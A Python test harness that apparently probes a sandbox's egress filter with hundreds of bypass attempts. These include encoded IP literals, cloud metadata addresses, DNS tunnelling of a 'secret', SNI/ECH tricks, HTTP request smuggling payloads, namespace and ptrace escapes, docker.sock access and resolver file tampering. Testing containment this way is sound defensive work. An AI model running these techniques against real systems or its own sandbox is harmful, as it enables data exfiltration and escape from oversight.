"""Ways to reach what is not allowed. Each runs in a process of its own, which has a few seconds. What
it did is reported by those who must not be reached; a line here says only when it ran, and what it saw.

Not here is what can't be kept off: a request for another name inside of TLS to a name that is allowed, and
inside of protocols that are passed on as they are, such as SOCKS and RTSP on a port of their own.

A name in a request's head is hidden.test, one in a body smuggled.test. attacks.py NAME runs one, and attacks.py "one of each" the first of each kind, and the last.
"""
import ctypes, json, os, random, signal, socket, ssl, struct, subprocess, sys, threading, time, urllib.request

PUBLIC = "203.0.113.11"  # of other.example, which nobody allowed
PUBLIC6 = "2001:db8:99::10"
PRIVATE = "10.9.0.9"
RESOLVER = "203.0.113.53"
HOST = "198.51.100.1"
CANARY = b"canary-was-reached"
ALLOWED = "front.test"

libc = ctypes.CDLL(None, use_errno=True)
attacks = {}


def attack(*variants):
    """Registers a function, once for each variant, which is its arguments."""
    def register(f):
        for v in variants or ((),):
            v = v if isinstance(v, tuple) else (v,)
            name = " ".join([f.__name__, *(ascii(x)[:60] for x in v)])
            attacks[name] = lambda v=v: f(*v)
        return f
    return register


def talk(sock, text, wait=1.5):
    sock.settimeout(wait)
    if text:
        sock.sendall(text)
    got = b""
    try:
        while len(got) < 1 << 16:
            chunk = sock.recv(1 << 14)
            if not chunk:
                break
            got += chunk
            if CANARY in got:
                break
    except OSError as e:
        got += b" <%s>" % str(e).encode()
    return got


def connect(host, port, wait=1.5):
    return socket.create_connection((host, port), timeout=wait)


def get(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def tls_context(alpn=("http/1.1",)):
    c = ssl._create_unverified_context()
    c.set_alpn_protocols(list(alpn))
    return c


# --- names

NAMES = ["other.example", "sub.example.test", "test", "evil.test", "example.test.evil.test", "evil-example.test", "xexample.test", "example.tes",
         "hidden.test", "www.exact.example", "\u0435xample.test", "example\u3002test.evil.test", "EVIL.test", "evil.test.", "*.exact.example", "localhost.evil.test",
         "metadata.google.internal", "host.docker.internal", "kubernetes.default.svc", "gateway.docker.internal", "_http._tcp.evil.test"]


@attack(*NAMES)
def name_by_http(name):
    return urllib.request.urlopen("http://%s/" % (name if name.isascii() else name.encode("idna").decode()), timeout=1.5).read()


@attack(*NAMES[:4])
def name_by_https(name):
    return urllib.request.urlopen(f"https://{name}/", timeout=1.5, context=tls_context()).read()


@attack(*NAMES)
def name_looked_up(name):
    return repr(socket.getaddrinfo(name, 80))


@attack("echo.test 80", "echo.test 443", "example.test 7000", "example.test 8080", "example.test 22", "example.test 53", "front.test 7000")
def wrong_port(where):
    host, port = where.split()
    return talk(connect(host, int(port)), get(host))


# --- literal addresses

LITERALS = ["203.0.113.11", "3405803787", "0xcb00710b", "0313.0.0161.013", "203.28939", "203.0.28939", "0xcb.0.0x71.0xb",
            "10.9.0.9", "10.589833", "0x0a090009", "012.9.0.9", "167837705", "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376",
            "100.100.100.200", "198.51.100.1", "10.9.0.1", "172.16.9.9", "192.168.9.9", "0.0.0.0", "0", "127.1", "127.9.9.9", "255.255.255.255", "224.0.0.9", "8.8.8.8"]
LITERALS6 = ["2001:db8:99::10", "2001:db8:98::1", "fd00:9::9", "fd00:9::1", "fe80::9%lo", "::ffff:10.9.0.9", "::ffff:203.0.113.11", "::10.9.0.9",
             "64:ff9b::10.9.0.9", "64:ff9b:1::10.9.0.9", "2002:a09:9::1", "::1", "::", "ff02::1%lo", "fec0::9", "fd00:ec2::254", "::ffff:127.0.0.1", "0:0:0:0:0:ffff:a09:9"]


@attack(*LITERALS, *LITERALS6)
def literal(address):
    return talk(connect(address, 8080), get("a"))


@attack(*LITERALS, *["[%s]" % a for a in LITERALS6 if "%" not in a])
def literal_by_http(address):
    return urllib.request.urlopen(f"http://{address}/", timeout=1.5).read()


@attack("203.0.113.11", "10.9.0.9", "2001:db8:99::10")
def literal_by_https(address):
    return urllib.request.urlopen(f"https://{'[%s]' % address if ':' in address else address}/", timeout=1.5, context=tls_context()).read()


@attack()
def other_loopback_addresses():
    """Addresses that stand for no name, or for one that was not looked up."""
    got = b""
    for a in ["127.0.0.1", "127.0.0.2", "127.1.2.3", "127.255.255.254"] + ["127.64.%d.%d" % (i, j) for i in (0, 1, 200) for j in (0, 1, 2, 3, 250, 255)] + ["127.127.255.255"]:
        for port in (80, 443, 7000):
            try:
                got += talk(connect(a, port, 0.3), get("hidden.test"), 0.3)
            except OSError:
                pass
    return got


# --- DNS

def question(name, kind=1, cls=1, flags=0x0100, extra=b"", counts=(1, 0, 0, 0)):
    labels = name if isinstance(name, bytes) else b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\0"
    return struct.pack(">HH4H", random.getrandbits(16), flags, *counts) + labels + struct.pack(">HH", kind, cls) + extra


def ask(query, to=("127.0.0.1", 53), wait=1.0):
    s = socket.socket(socket.AF_INET6 if ":" in to[0] else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(wait)
    s.sendto(query, to)
    try:
        return s.recv(4096)
    except OSError as e:
        return str(e).encode()


def ask_stream(query, to=("127.0.0.1", 53)):
    c = connect(*to)
    c.settimeout(0.2)
    c.sendall(struct.pack(">H", len(query)) + query)
    return c.recv(4096)


@attack(RESOLVER, "8.8.8.8", "2001:db8:99::53", HOST, "198.51.100.2")
def dns_elsewhere(server):
    return ask(question("evil.test"), (server, 53))


@attack(RESOLVER, "8.8.8.8")
def dns_elsewhere_stream(server):
    return ask_stream(question("evil.test"), (server, 53))


@attack((RESOLVER, 853), (RESOLVER, 443), ("1.1.1.1", 443))
def dns_over_tls(server, port):
    return talk(tls_context().wrap_socket(connect(server, port)), b"x")


@attack("evil.test", "exact.example", "other.example", "front.test")
def dns_tunnel(base):
    """Data in names, of all kinds of records."""
    secret = "73656372657421"
    for kind in (1, 28, 16, 15, 33, 2, 5, 6, 12, 10, 35, 64, 65, 255, 252, 251, 257, 46, 48, 43, 99, 65280):
        name = f"{secret}{kind}.{base}"
        ask(question(name, kind), wait=0.3)
        try:
            ask_stream(question(name, kind))
        except OSError:
            pass
    return b""


@attack()
def dns_tunnel_by_libc():
    for i in range(50):
        try:
            socket.getaddrinfo(f"{random.getrandbits(64):x}.evil.test", 80)
        except OSError:
            pass
    return b""


@attack()
def dns_forms():
    """Messages that some servers read otherwise than others do."""
    e = b"\4evil\4test\0"
    a = b"\5front\4test\0"
    edns = b"\0" + struct.pack(">HHIH", 41, 4096, 0, 12) + struct.pack(">HH", 8, 8) + b"\0\1\x20\0evil"
    for q in [
        question(a) + e + struct.pack(">HH", 1, 1), question(a, counts=(2, 0, 0, 0), extra=e + struct.pack(">HH", 1, 1)),
        question(e, counts=(2, 0, 0, 0), extra=a + struct.pack(">HH", 1, 1)), question(a, counts=(0, 0, 0, 0)), question(e, cls=3), question(e, cls=255),
        question(e, flags=0x2900), question(e, flags=0x1000), question(e, flags=0x8180), question(a, counts=(1, 0, 0, 1), extra=edns), question(e, counts=(1, 0, 0, 1), extra=edns),
        question(b"\x0aevil\0test.x\0"), question(b"\x09evil.test\0"), question(b"\4evil\xc0\x0c"), question(b"\xc0\x0c"), question(b"\xff" * 50), question(b"\x3f" + b"a" * 63 + b"\4evil\4test\0"),
        question(b"\x05front\4test\x04evil\4test\0"), question(b"\x0afront.test\4evil\4test\0"), question(b"\x0bfront.test\0\0"), question(a[:-1] + b"\xc0\x0c"),
        b"", b"\0", b"\0" * 11, b"\0" * 12, os.urandom(512), question(e) * 100,
    ]:
        ask(q, wait=0.05)
        try:
            ask_stream(q)
        except OSError:
            pass
    return b""


@attack("HOSTALIASES", "LOCALDOMAIN", "RES_OPTIONS", "RESOLV_HOST_CONF", "NSS", "HOSTS")
def resolver_settings(kind):
    with open("/tmp/aliases", "w") as f:
        f.write("short evil.test\nfront hidden.test\nshort.test evil.test\n")
    env = {**os.environ, "HOSTALIASES": "/tmp/aliases", "LOCALDOMAIN": "evil.test hidden.test", "RES_OPTIONS": "ndots:5 use-vc edns0 attempts:1 timeout:1", "RESOLV_HOST_CONF": "/tmp/aliases"}
    p = subprocess.run([sys.executable, "-c", "import socket\nfor n in ('short', 'front', 'secret-data'):\n try: print(socket.create_connection((n, 80), 1).recv(10))\n except OSError as e: print(e)"],
                       env=env, capture_output=True, timeout=5)
    for name in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf"):
        try:
            open(name, "a").write("\nnameserver 203.0.113.53\n")
        except OSError:
            pass
    return p.stdout


# --- other protocols and kinds of sockets

@attack("203.0.113.11", PUBLIC6, "10.9.0.9", "front.test", "198.51.100.1")
def udp_443(address):
    quic = b"\xc3\0\0\0\1\x08" + os.urandom(1194)
    family, _, _, _, to = socket.getaddrinfo(address, 443, type=socket.SOCK_DGRAM)[0]
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    s.sendto(quic, to)
    return s.recv(100)


@attack(("icmp", socket.AF_INET, 3, 1), ("tcp", socket.AF_INET, 3, 6), ("raw", socket.AF_INET, 3, 255), ("icmp6", socket.AF_INET6, 3, 58), ("ping", socket.AF_INET, 2, 1), ("ping6", socket.AF_INET6, 2, 58),
        ("packet", 17, 3, 0x300), ("packet dgram", 17, 2, 0x300), ("udplite", socket.AF_INET, 2, 136), ("sctp", socket.AF_INET, 1, 132), ("sctp seq", socket.AF_INET, 5, 132), ("dccp", socket.AF_INET, 6, 33),
        ("mptcp", socket.AF_INET, 1, 262), ("mptcp6", socket.AF_INET6, 1, 262), ("smc", 43, 1, 0), ("smc6", 43, 1, 1), ("l2tp", socket.AF_INET, 2, 115))
def socket_kind(name, family, kind, protocol):
    s = socket.socket(family, kind, protocol)
    s.settimeout(1)
    got = b""
    if family == 17:
        s.bind(("lo", 0))
        s.sendto(b"\0" * 14 + b"E", ("lo", 0x800, 0, 0, b"\0" * 6))
        return b""
    for to in ((PUBLIC6 if family == socket.AF_INET6 else PUBLIC), "front.test"):
        try:
            if kind in (1, 5, 6):
                s.connect((to, 80))
                s.send(get("hidden.test"))
                got += s.recv(1000)
            else:
                s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (to, 80))
        except OSError as e:
            got += str(e).encode()
    return got


@attack(("vsock host", 40, 1, 0, (2, 22)), ("vsock local", 40, 1, 0, (1, 22)), ("vsock dgram", 40, 2, 0, (2, 22)))
def vsock(name, family, kind, protocol, to):
    s = socket.socket(family, kind, protocol)
    s.settimeout(1)
    s.connect(to)
    return s.recv(100)


@attack(*[("family", n) for n in (3, 4, 5, 6, 9, 11, 15, 19, 21, 23, 24, 26, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 41, 42, 44, 45)])
def families(_, n):
    for kind in (1, 2, 3, 5):
        fd = libc.socket(n, kind, 0)
        if fd >= 0:
            print(json.dumps({"unexpected": f"socket family {n} kind {kind} opens"}), flush=True)
            os.close(fd)
    return b""


@attack()
def netlink():
    """A route, an address, and a device, by hand."""
    s = socket.socket(16, 3, 0)
    s.settimeout(0.5)
    got = b""
    for kind, body in [(24, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)), (20, struct.pack("BBBBI", 2, 24, 0, 0, 1)), (16, struct.pack("BBHiII", 0, 0, 0, 0, 1, 1))]:
        s.send(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
        got += s.recv(1000)
    for protocol in range(1, 23):
        try:
            socket.socket(16, 3, protocol)
            print(json.dumps({"unexpected": f"netlink protocol {protocol} opens"}), flush=True)
        except OSError:
            pass
    try:
        for t in ("ip route add default dev lo", "ip link add d0 type dummy", "ip addr add 203.0.113.11/32 dev lo"):
            subprocess.run(t.split(), capture_output=True, timeout=2)
    except OSError:
        pass
    return got + talk(connect(PUBLIC, 80), get("a"))


@attack("\0sandboxmcp-egresstest", "\0/tmp/.X11-unix/X0", "\0/tmp/dbus-egresstest", "/run/docker.sock", "/var/run/dbus/system_bus_socket", "/run/systemd/private", "/run/nscd/socket")
def unix_socket(path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    s.connect(path)
    return s.recv(100)


@attack("udp", "tcp")
def options(kind):
    """Options of sockets that choose routes, devices and addresses."""
    got = b""
    for level, option, value in [(socket.SOL_SOCKET, 25, b"cable\0"), (socket.SOL_SOCKET, 36, struct.pack("I", 1)), (0, 19, struct.pack("I", 1)), (0, 4, b"\x83\x07\x04" + socket.inet_aton(PUBLIC) + b"\0"), (0, 15, struct.pack("I", 1)), (6, 19, struct.pack("I", 1)), (socket.SOL_SOCKET, 5, struct.pack("I", 1))]:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
        s.settimeout(0.5)
        try:
            s.setsockopt(level, option, value)
        except OSError as e:
            got += str(e).encode()
        try:
            s.connect((PUBLIC, 80))
            s.send(get("a"))
            got += s.recv(100)
        except OSError as e:
            got += str(e).encode()
    return got


@attack(PUBLIC, "10.9.0.9", "front.test")
def fast_open(address):
    s = socket.socket()
    s.settimeout(1)
    s.sendto(get("hidden.test"), 0x20000000, (address, 80))
    return talk(s, b"")


@attack("setns", "unshare", "pidfd_getfd", "fds", "io_uring", "ptrace", "mem")
def leave(how):
    if how == "setns":
        for pid in ("1", "self"):
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
            libc.setns(fd, 0x40000000)
    elif how == "unshare":
        libc.unshare(0x10000000 | 0x40000000)
    elif how == "pidfd_getfd":
        fd = libc.syscall(434, 1, 0)
        for n in range(64):
            got = libc.syscall(438, fd, n, 0)
            if got >= 0:
                print(json.dumps({"unexpected": f"took descriptor {n} of PID 1"}), flush=True)
    elif how == "fds":
        for n in os.listdir("/proc/1/fd"):
            os.open(f"/proc/1/fd/{n}", os.O_RDWR)
    elif how == "io_uring":
        if libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0:
            print(json.dumps({"unexpected": "io_uring"}), flush=True)
    elif how == "ptrace":
        libc.ptrace(16, 1, 0, 0)
    else:
        open("/proc/1/mem", "r+b").read(1)
    return talk(connect(PUBLIC, 80), get("a"))


@attack()
def inherited():
    """Descriptors that were left to the program by mistake."""
    got = b""
    for fd in range(3, 200):
        try:
            s = socket.socket(fileno=os.dup(fd))
            print(json.dumps({"unexpected": f"descriptor {fd} is a socket: {s}"}), flush=True)
        except OSError:
            pass
    return got


@attack(*[(a, p) for a in ("0.0.0.0", "127.0.0.1", "127.64.0.1", "127.64.0.2") for p in (53, 80, 443)])
def bind_ports(address, port):
    """Takes the gateway's place: what comes then is the program's own."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(socket.AF_INET, kind)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind((address, port))
    return b""


# --- TLS

def hello(name, change=lambda b: b):
    c = tls_context()
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(i, o, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return change(o.read())


def with_extension(record, extension):
    """Adds an extension at the end of a ClientHello, and mends all lengths."""
    b = bytearray(record)
    p = 5 + 4 + 2 + 32
    p += 1 + b[p]
    p += 2 + int.from_bytes(b[p:p + 2], "big")
    p += 1 + b[p]
    size = int.from_bytes(b[p:p + 2], "big") + len(extension)
    b[p:p + 2] = size.to_bytes(2, "big")
    b += extension
    b[3:5] = (len(b) - 5).to_bytes(2, "big")
    b[6:9] = (len(b) - 9).to_bytes(3, "big")
    return bytes(b)


def sni(*names):
    entries = b"".join(b"\0" + struct.pack(">H", len(n)) + n for n in names)
    body = struct.pack(">H", len(entries)) + entries
    return struct.pack(">HH", 0, len(body)) + body


def in_records(record, size):
    body = record[5:]
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(body[i:i + size])) + body[i:i + size] for i in range(0, len(body), size))


ECH = b"\xfe\x0d" + struct.pack(">H", 50) + b"\0\0\1\0\1\7\0\x20" + bytes(32) + struct.pack(">H", 8) + bytes(8)
HELLOS = {
    "other name": lambda: hello("hidden.test"), "no name": lambda: hello(None), "an address": lambda: hello("203.0.113.11"),
    "below": lambda: hello("a.front.test"), "above": lambda: hello("test"), "other name in pieces": lambda: in_records(hello("hidden.test"), 20),
    "other name byte by byte": lambda: in_records(hello("hidden.test"), 1), "ech": lambda: with_extension(hello("front.test"), ECH),
    "ech of hidden": lambda: with_extension(hello("hidden.test"), ECH), "old esni": lambda: with_extension(hello("front.test"), b"\xff\xce\0\4abcd"),
    "two extensions": lambda: with_extension(hello("front.test"), sni(b"hidden.test")), "two extensions, turned": lambda: with_extension(hello("hidden.test"), sni(b"front.test")),
    "two names": lambda: with_extension(hello(None), sni(b"front.test", b"hidden.test")), "two names, turned": lambda: with_extension(hello(None), sni(b"hidden.test", b"front.test")),
    "a nul": lambda: with_extension(hello(None), sni(b"front.test\0.hidden.test")), "empty": lambda: with_extension(hello(None), sni(b"")), "no list": lambda: with_extension(hello(None), b"\0\0\0\0"),
    "blank": lambda: with_extension(hello(None), sni(b"hidden.test ")), "dot": lambda: with_extension(hello(None), sni(b"hidden.test.")), "capitals": lambda: with_extension(hello(None), sni(b"HIDDEN.test")),
    "alert first": lambda: b"\x15\3\1\0\2\1\0" + hello("hidden.test"), "empty record first": lambda: b"\x16\3\1\0\0" + hello("hidden.test"), "ccs first": lambda: b"\x14\3\1\0\1\1" + hello("hidden.test"),
    "heartbeat first": lambda: b"\x18\3\1\0\3\1\0\0" + hello("hidden.test"), "version 3.4": lambda: b"\x16\3\4" + hello("hidden.test")[3:], "version 2": lambda: b"\x16\2\0" + hello("hidden.test")[3:],
    "sslv2": lambda: b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + bytes(37), "postgres first": lambda: b"\0\0\0\x08\x04\xd2\x16\x2f" + hello("hidden.test"), "starttls": lambda: b"a STARTTLS\r\n" + hello("hidden.test"),
    "proxy line": lambda: b"PROXY TCP4 1.2.3.4 1.2.3.4 1 443\r\n" + hello("hidden.test"), "proxy v2": lambda: b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + bytes(12) + hello("hidden.test"),
    "cut off": lambda: hello("hidden.test")[:-40],
}


@attack(*[(n, p) for n in HELLOS for p in (443, 80)])
def tls(name, port):
    return talk(connect(ALLOWED, port), HELLOS[name](), 0.3)


@attack()
def tls_slowly():
    c = connect(ALLOWED, 443)
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for b in hello("hidden.test")[:250]:
        c.send(bytes([b]))
        time.sleep(0.002)
    return talk(c, hello("hidden.test")[250:], 0.3)


# --- HTTP in the clear

H, F = "hidden.test", "front.test"
REQUESTS = {
    "other host": f"GET / HTTP/1.1\r\nHost: {H}\r\n\r\n", "no host": f"GET http://{H}/ HTTP/1.1\r\n\r\n", "absolute": f"GET http://{H}/ HTTP/1.1\r\nHost: {F}\r\n\r\n",
    "absolute, turned": f"GET http://{F}/ HTTP/1.1\r\nHost: {H}\r\n\r\n", "absolute user": f"GET http://{F}@{H}/ HTTP/1.1\r\nHost: {F}\r\n\r\n", "absolute https": f"GET https://{H}/ HTTP/1.1\r\nHost: {F}\r\n\r\n",
    "connect": f"CONNECT {H}:443 HTTP/1.1\r\nHost: {F}\r\n\r\n", "connect, both": f"CONNECT {H}:443 HTTP/1.1\r\nHost: {H}:443\r\n\r\n", "connect 10": f"CONNECT {H}:80 HTTP/1.0\r\n\r\n",
    "two hosts": f"GET / HTTP/1.1\r\nHost: {F}\r\nHost: {H}\r\n\r\n", "two hosts, turned": f"GET / HTTP/1.1\r\nHost: {H}\r\nHost: {F}\r\n\r\n", "list": f"GET / HTTP/1.1\r\nHost: {F}, {H}\r\n\r\n",
    "blank": f"GET / HTTP/1.1\r\nHost : {H}\r\nHost: {F}\r\n\r\n", "tab": f"GET / HTTP/1.1\r\nHost\t: {H}\r\nHost: {F}\r\n\r\n", "blank first": f"GET / HTTP/1.1\r\n Host: {H}\r\nHost: {F}\r\n\r\n",
    "folded": f"GET / HTTP/1.1\r\nHost: {F}\r\n {H}\r\n\r\n", "folded, empty": f"GET / HTTP/1.1\r\nHost:\r\n {H}\r\n\r\n", "folded other": f"GET / HTTP/1.1\r\nX: a\r\n Host: smuggled.test\r\nHost: {F}\r\n\r\n",
    "underscore": f"GET / HTTP/1.1\r\nHost: {H}\0{F}\r\n\r\n", "nul": f"GET / HTTP/1.1\r\nHost: {F}\0.{H}\r\n\r\n", "user": f"GET / HTTP/1.1\r\nHost: {F}@{H}\r\n\r\n", "slash": f"GET / HTTP/1.1\r\nHost: {H}/{F}\r\n\r\n",
    "port": f"GET / HTTP/1.1\r\nHost: {H}:80\r\n\r\n", "bad port": f"GET / HTTP/1.1\r\nHost: {F}:80@{H}\r\n\r\n", "comma": f"GET / HTTP/1.1\r\nHost: {F}:{H}\r\n\r\n", "hash": f"GET / HTTP/1.1\r\nHost: {H}#{F}\r\n\r\n",
    "lf only": f"GET / HTTP/1.1\nHost: {H}\n\n", "mixed lf": f"GET / HTTP/1.1\r\nX: a\nHost: {H}\r\nHost: {F}\r\n\r\n", "cr only": f"GET / HTTP/1.1\rHost: {H}\r\r", "bare cr": f"GET / HTTP/1.1\r\nX: a\rHost: {H}\r\nHost: {F}\r\n\r\n",
    "blank lines": f"\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: {H}\r\n\r\n", "blanks": f"  GET / HTTP/1.1\r\nHost: {H}\r\n\r\n", "tabs": f"GET\t/\tHTTP/1.1\r\nHost: {H}\r\n\r\n", "vt": f"GET\x0b/\x0bHTTP/1.1\r\nHost: {H}\r\n\r\n",
    "small": f"get / http/1.1\r\nhost: {H}\r\n\r\n", "odd method": f"G-T / HTTP/1.1\r\nHost: {H}\r\n\r\n", "method nul": f"\0GET / HTTP/1.1\r\nHost: {H}\r\n\r\n", "method 1": f"G\1T / HTTP/1.1\r\nHost: {H}\r\n\r\n", "utf8": f"\ufeffGET / HTTP/1.1\r\nHost: {H}\r\n\r\n",
    "0.9": f"GET http://{H}/\r\n", "1.0": f"GET / HTTP/1.0\r\nHost: {H}\r\n\r\n", "2.0": f"GET / HTTP/2.0\r\nHost: {H}\r\n\r\n", "1.2": f"GET / HTTP/1.2\r\nHost: {H}\r\n\r\n", "odd version": f"GET / XTTP/1.1\r\nHost: {H}\r\n\r\n", "icy": f"GET / ICY/1.1\r\nHost: {H}\r\n\r\n", "rtsp": f"DESCRIBE rtsp://{H}/ RTSP/1.0\r\n\r\n",
    "second": f"GET / HTTP/1.1\r\nHost: {F}\r\n\r\nGET / HTTP/1.1\r\nHost: {H}\r\n\r\n", "hundredth": f"GET / HTTP/1.1\r\nHost: {F}\r\n\r\n" * 99 + f"GET / HTTP/1.1\r\nHost: {H}\r\n\r\n",
    "after head": f"HEAD / HTTP/1.1\r\nHost: {F}\r\n\r\nGET / HTTP/1.1\r\nHost: {H}\r\n\r\n", "after options": f"OPTIONS * HTTP/1.1\r\nHost: {F}\r\n\r\nGET / HTTP/1.1\r\nHost: {H}\r\n\r\n",
    "h2c": f"GET / HTTP/1.1\r\nHost: {F}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nGET / HTTP/1.1\r\nHost: {H}\r\n\r\n",
    "upgrade refused": f"GET / HTTP/1.1\r\nHost: {F}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x\r\n\r\nGET / HTTP/1.1\r\nHost: {H}\r\n\r\n",
    "proxy line": f"PROXY TCP4 1.2.3.4 1.2.3.4 1 80\r\nGET / HTTP/1.1\r\nHost: {H}\r\n\r\n", "h2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", "h2 hidden": None, "socks5": "\5\1\0\5\1\0\3\x0bhidden.test\0P", "socks4a": "\4\1\0P\0\0\0\1x\0hidden.test\0", "socks4": "\4\1\0P\x0a\x09\0\x09x\0",
    "ajp": "\x12\x34\0\x1ehidden.test", "fcgi": "\1\1\0\1\0\x08\0\0hidden.test", "long line": f"GET /{'a' * 20000} HTTP/1.1\r\nHost: {H}\r\n\r\n", "long method": f"{'A' * 20000} / HTTP/1.1\r\nHost: {H}\r\n\r\n", "late host": "GET / HTTP/1.1\r\n" + "X: y\r\n" * 3000 + f"Host: {H}\r\n\r\n",
    "trailing dot": f"GET / HTTP/1.1\r\nHost: {H}.\r\n\r\n", "below": f"GET / HTTP/1.1\r\nHost: x.{F}.{H}\r\n\r\n", "capitals": f"GET / HTTP/1.1\r\nHOST: {H.upper()}\r\n\r\n".replace("HIDDEN.TEST", "Hidden.test"), "percent": f"GET / HTTP/1.1\r\nHost: %68idden.test\r\n\r\n", "address": "GET / HTTP/1.1\r\nHost: 10.9.0.9\r\n\r\n",
    "authority": f"GET //{H}/ HTTP/1.1\r\nHost: {H}\r\n\r\n",
}
S = "GET / HTTP/1.1\r\nHost: smuggled.test\r\n\r\n"
P = f"POST / HTTP/1.1\r\nHost: {F}\r\n"
SMUGGLED = {
    "cl.te": P + f"Content-Length: {len(S) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{S}", "te.cl": P + f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{len(S):x}\r\n{S}\r\n0\r\n\r\n",
    "cl.cl": P + f"Content-Length: 0\r\nContent-Length: {len(S)}\r\n\r\n{S}", "cl list": P + f"Content-Length: {len(S)}, 0\r\n\r\n{S}", "cl plus": P + f"Content-Length: +{len(S)}\r\n\r\n{S}", "cl minus": P + f"Content-Length: -1\r\n\r\n{S}", "cl hex": P + f"Content-Length: 0x{len(S):x}\r\n\r\n{S}", "cl huge": P + f"Content-Length: 18446744073709551616\r\n\r\n{S}", "cl blank": P + f"Content-Length : {len(S)}\r\n\r\n{S}",
    "te x": P + f"Transfer-Encoding: xchunked\r\nContent-Length: {len(S)}\r\n\r\n{S}", "te blank": P + f"Transfer-Encoding : chunked\r\nContent-Length: {len(S)}\r\n\r\n{S}", "te tab": P + f"Transfer-Encoding:\tchunked\r\nContent-Length: {len(S)}\r\n\r\n{S}", "te vt": P + f"Transfer-Encoding: \x0bchunked\r\nContent-Length: {len(S)}\r\n\r\n{S}",
    "te list": P + f"Transfer-Encoding: identity, chunked\r\nContent-Length: {len(S)}\r\n\r\n{S}", "te twice": P + f"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: {len(S)}\r\n\r\n{S}", "te folded": P + f"Transfer-Encoding:\r\n chunked\r\nContent-Length: {len(S)}\r\n\r\n{S}", "te 1.0": P.replace("1.1", "1.0") + f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{S}",
    "chunk lf": P + f"Transfer-Encoding: chunked\r\n\r\n0\n\n{S}", "chunk ext": P + f"Transfer-Encoding: chunked\r\n\r\n0;a=\n\r\n{S}\r\n\r\n", "chunk huge": P + f"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{S}", "chunk minus": P + f"Transfer-Encoding: chunked\r\n\r\n-1\r\n{S}", "chunk 0x": P + f"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n{S}", "trailer": P + f"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: {H}\r\n\r\n{S}",
    "get body": f"GET / HTTP/1.1\r\nHost: {F}\r\nContent-Length: 0\r\nContent-Length: 0\r\n\r\n{S}", "expect": P + f"Expect: 100-continue\r\nContent-Length: 0\r\n\r\n{S}", "header cr": P + f"X: a\r\n\rContent-Length: 0\r\n\r\n{S}", "websocket": f"GET /echo HTTP/1.1\r\nHost: {F}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 0\r\n\r\n{S}", "second": P + f"Content-Length: 0\r\n\r\n{S}",
    "connection": P + f"Connection: close, Content-Length\r\nContent-Length: {len(S)}\r\n\r\n{S}", "connection host": P + f"Connection: Host\r\nContent-Length: 0\r\n\r\n{S}", "upgrade get": f"GET / HTTP/1.1\r\nHost: {F}\r\nUpgrade: smuggle\r\nConnection: Upgrade\r\n\r\n{S}",
}


def h2_hidden():
    head = b"\x82\x84\x86\x41" + bytes([len(H)]) + H.encode()
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0" + struct.pack(">I", len(head))[1:] + b"\1\5\0\0\0\1" + head


@attack(*[(n, p) for n in REQUESTS for p in (80, 443)])
def http(name, port):
    text = h2_hidden() if REQUESTS[name] is None else REQUESTS[name].encode("utf-8" if name == "utf8" else "latin-1")
    return talk(connect(ALLOWED, port), text, 0.25)


@attack(*[n for n in REQUESTS if n not in ("rtsp", "socks5", "socks4a", "ajp", "fcgi", "method 1", "method nul", "odd version", "icy", "proxy line", "utf8", "blanks")])
def http_on_another_port(name):
    text = h2_hidden() if REQUESTS[name] is None else REQUESTS[name].encode("latin-1")
    return talk(connect("echo.test", 7000), text, 0.25)


@attack(*SMUGGLED)
def smuggle(name):
    return talk(connect(ALLOWED, 80), SMUGGLED[name].encode("latin-1"), 0.25)


@attack("other host", "second", "absolute")
def http_slowly(name):
    c = connect(ALLOWED, 80)
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for b in REQUESTS[name].encode():
        try:
            c.send(bytes([b]))
        except OSError:
            break
        time.sleep(0.003)
    return talk(c, b"", 0.3)


